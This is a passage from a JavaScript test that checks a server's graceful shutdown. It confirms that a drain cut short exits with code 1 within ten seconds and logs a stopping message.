      await request(`${server.url}/readyz`);  // the server has accepted and is reading the body by now
      const started = Date.now();
      const code = await server.stop();
      const took = Date.now() - started;
      s.destroy();
      assert.ok(took < 10_000, `stopped after ${took} ms`);
      assert.equal(code, 1, 'a drain cut short exits 1');
      assert.match(server.stderr(), /still running after 1 s|stopping/);
    } finally {
      tmp.remove();
    }
  });
});
